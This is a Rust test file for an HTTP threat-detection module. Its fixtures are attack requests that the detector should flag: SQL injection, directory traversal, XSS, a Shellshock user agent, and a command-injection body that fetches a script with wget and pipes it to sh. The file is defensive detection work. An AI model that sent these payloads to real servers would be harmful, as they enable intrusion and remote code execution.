//! Tests of the HTTP heuristics through their public entry points, on request and response
//! bytes parsed by the wire crate.

use std::net::IpAddr;

use trailwatch_event::TrailType;
use trailwatch_wire::http::{
    parse_request, parse_response, Parse, Request, Response, ResponseParse,
};

use super::*;

const CLIENT: &str = "192.168.1.20";
/// A public server address (Cloudflare's resolver) used only as a value: nothing is sent.
const PUBLIC_SERVER: &str = "1.1.1.1";
const LOCAL_SERVER: &str = "192.168.1.5";

fn ip(text: &str) -> IpAddr {
    text.parse().unwrap()
}

fn request(buf: &[u8]) -> Request<'_> {
    match parse_request(buf) {
        Parse::Complete(request) => request,
        other => panic!("expected a complete request, got {other:?}"),
    }
}

fn response(buf: &[u8]) -> Response<'_> {
    match parse_response(buf) {
        ResponseParse::Complete(response) => response,
        other => panic!("expected a complete response, got {other:?}"),
    }
}

fn finding(trail_type: TrailType, trail: &str, info: &str) -> Finding {
    Finding {
        trail_type,
        trail: trail.to_string(),
        info: info.to_string().into(),
    }
}

/// Runs one request with `heuristics` and returns the findings.
fn findings_with(
    heuristics: &mut HttpHeuristics,
    now: i64,
    server: &str,
    host: Option<&str>,
    head: &[u8],
) -> Vec<Finding> {
    let mut out = Vec::new();
    let parsed = request(head);
    heuristics.on_request(now, ip(CLIENT), ip(server), host, &parsed, false, &mut out);
    out
}

fn findings(server: &str, host: Option<&str>, head: &[u8]) -> Vec<Finding> {
    findings_with(&mut HttpHeuristics::default(), 100, server, host, head)
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

fn get(path: &str, host: &str, agent: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n\r\n").into_bytes()
}

#[test]
fn sql_injection_in_query() {
    let head = get(
        "/item.php?id=1%20UNION%20SELECT%201,2--",
        "shop.example",
        BROWSER,
    );
    assert_eq!(
        findings(PUBLIC_SERVER, Some("shop.example"), &head),
        [finding(
            TrailType::Url,
            "shop.example(/item.php?id=1%20UNION%20SELECT%201,2--)",
            "potential sql injection (suspicious)"
        )]
    );
}

#[test]
fn double_encoded_traversal_found() {
    let head = get(
        "/files/%252e%252e%252f%252e%252e%252f%252e%252e%252fetc",
        "h.example",
        BROWSER,
    );
    let out = findings(PUBLIC_SERVER, Some("h.example"), &head);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].info, "potential directory traversal (suspicious)");
}

#[test]
fn xss_and_config_access_found() {
    let head = get(
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "h.example",
        BROWSER,
    );
    let out = findings(PUBLIC_SERVER, Some("h.example"), &head);
    assert_eq!(out[0].info, "potential xss injection (suspicious)");

    let head = get("/.git/config", "h.example", BROWSER);
    let out = findings(PUBLIC_SERVER, Some("h.example"), &head);
    assert_eq!(
        out,
        [finding(
            TrailType::Url,
            "h.example(/.git/config)",
            "config file access (suspicious)"
        )]
    );
}

#[test]
fn benign_query_with_quotes_quiet() {
    for path in [
        "/search?q=it%27s+a+select+wine&sort=price",
        "/products/select-comfort-mattress?ref=home",
        "/books?author=O'Reilly&page=2",
    ] {
        let head = get(path, "shop.example", BROWSER);
        assert_eq!(
            findings(PUBLIC_SERVER, Some("shop.example"), &head),
            [],
            "{path}"
        );
    }
}

#[test]
fn injection_in_body_found() {
    let head = b"POST /cgi-bin/luci HTTP/1.1\r\nHost: router\r\nContent-Length: 40\r\n\r\n";
    let body = b"cmd=;wget%20http://127.0.0.1/x.sh%20-O-|sh";
    let parsed = request(head);
    let mut heuristics = HttpHeuristics::default();
    let mut out = Vec::new();
    heuristics.on_request_body(
        100,
        ip(CLIENT),
        ip(LOCAL_SERVER),
        Some("router"),
        &parsed,
        body,
        false,
        &mut out,
    );
    assert_eq!(
        out,
        [finding(
            TrailType::Http,
            "router(/cgi-bin/luci \\(POST cmd=;wget%20http://127.0.0.1/x.sh%20-O-|sh\\))",
            "potential remote code execution (suspicious)"
        )]
    );
}

#[test]
fn json_api_body_quiet() {
    let head = b"POST /api/v2/search HTTP/1.1\r\nHost: api.example\r\n\r\n";
    let body = br#"{"query":"select","name":"O'Reilly","filters":{"price":{"lt":10}},"n":1}"#;
    let parsed = request(head);
    let mut heuristics = HttpHeuristics::default();
    let mut out = Vec::new();
    heuristics.on_request_body(
        100,
        ip(CLIENT),
        ip(PUBLIC_SERVER),
        Some("api.example"),
        &parsed,
        body,
        false,
        &mut out,
    );
    assert_eq!(out, []);
}

#[test]
fn direct_exe_download_found() {
    let head = get("/d/upd.exe", "files.example", BROWSER);
    assert_eq!(
        findings(PUBLIC_SERVER, Some("files.example"), &head),
        [finding(
            TrailType::Url,
            "files.example(/d/upd.exe)",
            "direct .exe download (suspicious)"
        )]
    );
}

#[test]
fn benign_downloads_quiet() {
    let cases = [
        // A package manager fetching a Debian package.
        (
            PUBLIC_SERVER,
            "deb.debian.org",
            "/debian/pool/main/c/curl/curl_8.5.0-2_amd64.deb",
        ),
        // Windows Update, an allowed host.
        (
            PUBLIC_SERVER,
            "download.windowsupdate.com",
            "/c/msdownload/update/am_delta.exe",
        ),
        // A long, descriptive installer name.
        (PUBLIC_SERVER, "dl.example", "/ChromeSetupInstaller.exe"),
        // A query with parameters, as download pages use.
        (PUBLIC_SERVER, "dl.example", "/get.exe?id=5"),
        // A server on the local network.
        (LOCAL_SERVER, "nas.local", "/tools/a.exe"),
    ];
    for (server, host, path) in cases {
        let head = get(path, host, BROWSER);
        assert_eq!(findings(server, Some(host), &head), [], "{host}{path}");
    }
}

#[test]
fn iot_payload_by_address_found() {
    let head = b"GET /bins/sora.arm7 HTTP/1.0\r\nHost: 1.1.1.1\r\n\r\n";
    assert_eq!(
        findings(PUBLIC_SERVER, Some("1.1.1.1"), head),
        [finding(
            TrailType::Http,
            "(1.1.1.1)/bins/sora.arm7",
            "potential iot-malware download (suspicious)"
        )]
    );
}

#[test]
fn iot_path_by_name_quiet() {
    let head = get("/bins/sora.arm7", "mirror.example", BROWSER);
    assert_eq!(findings(PUBLIC_SERVER, Some("mirror.example"), &head), []);
}

#[test]
fn scanner_agent_found() {
    let head = get("/", "h.example", "sqlmap/1.7.2#stable (https://sqlmap.org)");
    assert_eq!(
        findings(PUBLIC_SERVER, Some("h.example"), &head),
        [finding(
            TrailType::Ua,
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "potential web scan (suspicious)"
        )]
    );
}

#[test]
fn empty_and_malformed_agents_found() {
    let head = b"GET / HTTP/1.1\r\nHost: h.example\r\nUser-Agent:\r\n\r\n";
    assert_eq!(
        findings(PUBLIC_SERVER, Some("h.example"), head),
        [finding(
            TrailType::Ua,
            "(empty)",
            "empty user agent (suspicious)"
        )]
    );

    let head = b"GET / HTTP/1.1\r\nHost: h.example\r\nUser-Agent: Mozilla\x01/5.0\r\n\r\n";
    assert_eq!(
        findings(PUBLIC_SERVER, Some("h.example"), head),
        [finding(
            TrailType::Ua,
            "Mozilla\u{1}/5.0",
            "malformed user agent (suspicious)"
        )]
    );
}

#[test]
fn shellshock_agent_found() {
    let head = get(
        "/cgi-bin/status",
        "h.example",
        "() { :; }; /bin/bash -c 'id'",
    );
    let out = findings(PUBLIC_SERVER, Some("h.example"), &head);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].trail_type, TrailType::Ua);
    assert_eq!(out[0].info, "potential remote code execution (suspicious)");
}

#[test]
fn tool_agent_to_address_found() {
    let head = get("/x", "1.1.1.1", "curl/8.5.0");
    assert_eq!(
        findings(PUBLIC_SERVER, Some("1.1.1.1"), &head),
        [finding(
            TrailType::Ua,
            "curl/8.5.0",
            "user agent (suspicious)"
        )]
    );
}

#[test]
fn tool_agent_expected_cases_quiet() {
    // A named host: curl against an API is ordinary.
    let head = get("/x", "api.example", "curl/8.5.0");
    assert_eq!(findings(PUBLIC_SERVER, Some("api.example"), &head), []);

    // A local server named by address.
    let head = get("/x", LOCAL_SERVER, "curl/8.5.0");
    assert_eq!(findings(LOCAL_SERVER, Some(LOCAL_SERVER), &head), []);

    // A client listed as expected to use tools.
    let config = HttpConfig {
        tool_agent_clients: vec![ip(CLIENT)],
        ..HttpConfig::default()
    };
    let head = get("/x", "1.1.1.1", "curl/8.5.0");
    let mut heuristics = HttpHeuristics::new(&config);
    assert_eq!(
        findings_with(&mut heuristics, 100, PUBLIC_SERVER, Some("1.1.1.1"), &head),
        []
    );
}

#[test]
fn whitelisted_request_quiet() {
    let head = get("/.env", "crawler.example", "sqlmap/1.0");
    let parsed = request(&head);
    let mut heuristics = HttpHeuristics::default();
    let mut out = Vec::new();
    heuristics.on_request(
        100,
        ip(CLIENT),
        ip(PUBLIC_SERVER),
        Some("crawler.example"),
        &parsed,
        true,
        &mut out,
    );
    assert_eq!(out, []);
}

#[test]
fn disabled_detector_quiet() {
    let config = HttpConfig {
        disabled: vec![HttpDetector::Injection],
        ..HttpConfig::default()
    };
    let head = get("/.env", "h.example", BROWSER);
    let mut heuristics = HttpHeuristics::new(&config);
    assert_eq!(
        findings_with(
            &mut heuristics,
            100,
            PUBLIC_SERVER,
            Some("h.example"),
            &head
        ),
        []
    );

    let config = HttpConfig {
        enabled: false,
        ..HttpConfig::default()
    };
    let mut heuristics = HttpHeuristics::new(&config);
    assert_eq!(
        findings_with(
            &mut heuristics,
            100,
            PUBLIC_SERVER,
            Some("h.example"),
            &head
        ),
        []
    );
}

#[test]
fn repeat_reported_once_per_window() {
    let mut heuristics = HttpHeuristics::default();
    let head = get("/.env", "h.example", BROWSER);
    let window = i64::from(HttpConfig::default().report_window_secs);
    assert_eq!(
        findings_with(
            &mut heuristics,
            100,
            PUBLIC_SERVER,
            Some("h.example"),
            &head
        )
        .len(),
        1
    );
    for now in [101, 100 + window - 1] {
        assert_eq!(
            findings_with(
                &mut heuristics,
                now,
                PUBLIC_SERVER,
                Some("h.example"),
                &head
            ),
            []
        );
    }
    assert_eq!(
        findings_with(
            &mut heuristics,
            100 + window,
            PUBLIC_SERVER,
            Some("h.example"),
            &head
        )
        .len(),
        1
    );
}

#[test]
fn report_table_bound_counted() {
    let config = HttpConfig {
        report_table_size: 4,
        ..HttpConfig::default()
    };
    let mut heuristics = HttpHeuristics::new(&config);
    for index in 0..10 {
        let head = get(&format!("/{index}/.env"), "h.example", BROWSER);
        findings_with(
            &mut heuristics,
            100,
            PUBLIC_SERVER,
            Some("h.example"),
            &head,
        );
    }
    let tables = heuristics.tables();
    let reported = tables
        .iter()
        .find(|table| table.name == "http.reported")
        .unwrap();
    assert_eq!(reported.len, 4);
    assert_eq!(reported.capacity, 4);
    assert_eq!(reported.evictions, 6);
}

/// Sends `count` requests for distinct paths from the client to `server`, each answered with
/// `status` when given, and returns every finding.
fn directory_scan(
    heuristics: &mut HttpHeuristics,
    count: usize,
    status: Option<u16>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    let answer = status.map(|status| format!("HTTP/1.1 {status} X\r\nContent-Length: 0\r\n\r\n"));
    for index in 0..count {
        let head = get(&format!("/admin{index}.php"), "h.example", BROWSER);
        let parsed = request(&head);
        heuristics.on_request(
            100,
            ip(CLIENT),
            ip(LOCAL_SERVER),
            Some("h.example"),
            &parsed,
            false,
            &mut out,
        );
        if let Some(answer) = &answer {
            let parsed = response(answer.as_bytes());
            heuristics.on_response(
                100,
                ip(LOCAL_SERVER),
                ip(CLIENT),
                Some("h.example"),
                &parsed,
                b"",
                false,
                &mut out,
            );
        }
    }
    out
}

#[test]
fn directory_scan_of_404s_found() {
    let mut heuristics = HttpHeuristics::default();
    let threshold = HttpConfig::default().scan_distinct_paths as usize;
    assert_eq!(
        directory_scan(&mut heuristics, threshold * 3, Some(404)),
        [finding(TrailType::Url, "h.example(*)", WEB_SCANNING)]
    );
}

#[test]
fn directory_scan_near_misses_quiet() {
    let threshold = HttpConfig::default().scan_distinct_paths as usize;
    let mut heuristics = HttpHeuristics::default();
    assert_eq!(
        directory_scan(&mut heuristics, threshold - 1, Some(404)),
        []
    );

    // A page with many assets, all found.
    let mut heuristics = HttpHeuristics::default();
    assert_eq!(
        directory_scan(&mut heuristics, threshold * 3, Some(200)),
        []
    );
}

#[test]
fn sinkhole_response_found() {
    let head = b"HTTP/1.1 200 OK\r\nServer: nginx\r\nX-Sinkhole: malware-sinkhole\r\n\r\n";
    let mut heuristics = HttpHeuristics::default();
    let mut out = Vec::new();
    let parsed = response(head);
    heuristics.on_response(
        100,
        ip(PUBLIC_SERVER),
        ip(CLIENT),
        None,
        &parsed,
        b"",
        false,
        &mut out,
    );
    assert_eq!(
        out,
        [finding(
            TrailType::Http,
            "X-Sinkhole: malware-sinkhole",
            "sinkhole response (malware)"
        )]
    );
}

#[test]
fn seized_domain_page_found() {
    let head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n";
    let body = b"<html><head><title>THIS DOMAIN HAS BEEN SEIZED</title>";
    let mut heuristics = HttpHeuristics::default();
    let mut out = Vec::new();
    let parsed = response(head);
    heuristics.on_response(
        100,
        ip(PUBLIC_SERVER),
        ip(CLIENT),
        None,
        &parsed,
        body,
        false,
        &mut out,
    );
    assert_eq!(
        out,
        [finding(
            TrailType::Http,
            "THIS DOMAIN HAS BEEN SEIZED",
            "seized domain (suspicious)"
        )]
    );
}

#[test]
fn executable_content_type_found() {
    let head = b"HTTP/1.1 200 OK\r\nContent-Type: application/x-msdownload\r\n\r\n";
    let parsed = response(head);
    let mut heuristics = HttpHeuristics::default();
    let mut out = Vec::new();
    heuristics.on_response(
        100,
        ip(PUBLIC_SERVER),
        ip(CLIENT),
        Some("cdn.example"),
        &parsed,
        b"MZ",
        false,
        &mut out,
    );
    assert_eq!(
        out,
        [finding(
            TrailType::Http,
            "application/x-msdownload",
            "content type (suspicious)"
        )]
    );
}

#[test]
fn benign_content_types_quiet() {
    let mut heuristics = HttpHeuristics::default();
    let mut out = Vec::new();
    let cases: [(&[u8], &str); 3] = [
        (
            b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n",
            "cdn.example",
        ),
        (
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n",
            "cdn.example",
        ),
        (
            b"HTTP/1.1 200 OK\r\nContent-Type: application/x-msdownload\r\n\r\n",
            "download.windowsupdate.com",
        ),
    ];
    for (head, host) in cases {
        let parsed = response(head);
        heuristics.on_response(
            100,
            ip(PUBLIC_SERVER),
            ip(CLIENT),
            Some(host),
            &parsed,
            b"",
            false,
            &mut out,
        );
    }
    assert_eq!(out, []);
}

mod random_input {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        // Each case matches a few kilobytes against every pattern, which is slow in debug
        // builds, so fewer cases run than proptest's default of 256.
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn random_requests_never_panic(
            tail in proptest::collection::vec(
                prop_oneof![Just(b'%'), Just(b'/'), Just(b'.'), Just(b'\''), Just(b'<'),
                            Just(b'\r'), Just(b'\n'), Just(b' '), Just(b':'), any::<u8>()],
                0..3000,
            ),
            body in proptest::collection::vec(any::<u8>(), 0..3000),
        ) {
            SHARED.with_borrow_mut(|heuristics| check_random(heuristics, &tail, &body))?;
        }
    }

    thread_local! {
        /// One instance for every case, because compiling the patterns dominates a case.
        static SHARED: std::cell::RefCell<HttpHeuristics> =
            std::cell::RefCell::new(HttpHeuristics::default());
    }

    fn check_random(
        heuristics: &mut HttpHeuristics,
        tail: &[u8],
        body: &[u8],
    ) -> Result<(), TestCaseError> {
        let (client, server) = (ip(CLIENT), ip(PUBLIC_SERVER));
        let mut out = Vec::new();
        let mut buf = b"GET /".to_vec();
        buf.extend(tail);
        if let Parse::Complete(parsed) = parse_request(&buf) {
            heuristics.on_request(1, client, server, parsed.host, &parsed, false, &mut out);
            heuristics.on_request_body(1, client, server, None, &parsed, body, false, &mut out);
        }

        let mut head = b"HTTP/1.1 404 X\r\n".to_vec();
        head.extend(tail);
        if let ResponseParse::Complete(parsed) = parse_response(&head) {
            heuristics.on_response(1, server, client, None, &parsed, body, false, &mut out);
        }

        // The work per message is bounded by the decode limit: the buffers never grow past
        // it, whatever the input length.
        let limit = HttpConfig::default().max_decoded_bytes;
        prop_assert!(heuristics.decoded.len() <= limit);
        prop_assert!(heuristics.scratch.len() <= limit);
        for finding in &out {
            prop_assert!(finding.trail.len() <= MAX_TRAIL_BYTES);
        }
        Ok(())
    }
}
